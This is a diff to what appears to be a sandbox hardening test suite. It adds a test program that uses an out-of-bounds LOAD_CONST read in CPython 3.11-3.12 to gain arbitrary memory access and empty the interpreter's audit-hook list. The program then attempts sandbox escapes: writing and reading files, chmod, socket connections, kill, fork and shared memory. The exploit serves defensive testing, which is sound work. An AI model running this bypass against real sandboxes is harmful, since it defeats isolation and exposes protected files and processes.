@@ -126,6 +126,75 @@ HARDENING = {
     ),
 }
 
+# Switches the audit hook off from pure Python (CPython 3.11-3.12 layouts): a code object built with code.replace
+# reads past its constants (LOAD_CONST does not check the index) to a fake bytearray spanning all memory; with it
+# the interpreter's list of audit hooks, found in the binary's data beside None, is emptied. Prints "hook off".
+HOOK_BYPASS = (
+    "import sys\n"
+    "def memory():\n"
+    "    fake = ((2**40).to_bytes(8, 'little') + id(bytearray).to_bytes(8, 'little')\n"
+    "            + (2**62).to_bytes(8, 'little') * 2 + bytes(24))\n"
+    "    consts = ()\n"
+    "    for _ in range(1000):\n"
+    "        slot = (id(fake) + 32).to_bytes(8, 'little') * 64\n"
+    "        index = (id(slot) + 32 - id(consts) - 24) // 8\n"
+    "        if index > 0:\n"
+    "            break\n"
+    "    code = (lambda: 0).__code__.replace(co_consts=consts, co_code=bytes([151, 0, 144, index >> 24 & 255, 144,\n"
+    "        index >> 16 & 255, 144, index >> 8 & 255, 100, index & 255, 83, 0]))\n"
+    "    return type(lambda: 0)(code, {{}})(), (fake, slot)\n"
+    "def word(address):\n"
+    "    return int.from_bytes(mem[address:address + 8], 'little')\n"
+    "mem, keep = memory()\n"
+    "maps = []\n"
+    "for line in open('/proc/self/maps'):\n"
+    "    fields = line.split()\n"
+    "    start, end = (int(x, 16) for x in fields[0].split('-'))\n"
+    "    if fields[1].startswith('r'):\n"
+    "        maps.append((start, end, fields[1], fields[5] if len(fields) > 5 else ''))\n"
+    "readable = lambda a: any(s <= a and a + 8 <= e for s, e, _, _ in maps)\n"
+    "home = next(m for m in maps if m[0] <= id(None) < m[1])\n"
+    "regions = [m for m in maps if m[3] == home[3] and 'w' in m[2]] + [m for m in maps if not m[3] and 'w' in m[2]]\n"
+    "hooks, name = None, id(sys.intern('hook'))\n"
+    "for start, end, _, _ in regions[:4]:\n"
+    "    for address in range(start, end - 8, 8):\n"
+    "        w = word(address)\n"
+    "        if w & 7 or not readable(w + 24) or word(w + 8) != id(list) or word(w + 16) != 1:\n"
+    "            continue\n"
+    "        func = word(word(w + 24)) if readable(word(w + 24)) else 0\n"
+    "        if readable(func + 40) and word(func + 8) == id(type(memory)) and word(func + 32) == name:\n"
+    "            hooks = w\n"
+    "            break\n"
+    "    if hooks:\n"
+    "        break\n"
+    "if hooks:\n"
+    "    mem[hooks + 16:hooks + 24] = bytes(8)\n"
+    "import ctypes\n"
+    "print('hook off:', ctypes.CDLL(None).getpid() > 0, flush=True)\n"
+)
+HARDENING["hook_bypass"] = HOOK_BYPASS + (  # then everything the other programs try, the hook gone
+    "import os, socket\n"
+    "libc = ctypes.CDLL(None, use_errno=True)\n"
+    "def attempt(what, action):\n"
+    "    try:\n"
+    "        action()\n"
+    "        print('ESCAPED', what)\n"
+    "    except Exception as exc:\n"
+    "        print('denied', what, exc)\n"
+    "attempt('write', lambda: open({dir!r} + '/pwned.txt', 'w').write('pwned'))\n"
+    "attempt('read', lambda: print(open({dir!r} + '/secret.txt').read()))\n"
+    "attempt('chmod', lambda: os.chmod({dir!r} + '/secret.txt', 0))\n"
+    "attempt('unix socket', lambda: socket.socket(socket.AF_UNIX).connect({sock!r}))\n"
+    "attempt('abstract socket', lambda: socket.socket(socket.AF_UNIX).connect('\\0' + {abstract!r}))\n"
+    "attempt('kill', lambda: os.kill({pid}, 9))\n"
+    "attempt('fork', os.fork)\n"
+    "attempt('memfd', lambda: os.memfd_create('x'))\n"
+    "attempt('shm', lambda: libc.shmget({key}, 4096, 0o1666) < 0 and 1 / 0)\n"
+    "attempt('/dev/shm', lambda: open('/dev/shm/tracerl-pwned-{key}', 'w'))\n"
+    "raise SystemExit(1)\n"
+)
+
+
 # a program that holds as many threads as it can, and one that needs a few: run side by side, the second must
 # not notice the first (RLIMIT_NPROC counts every process of a user, so one pool per user would be shared)
 THREAD_HOG = (
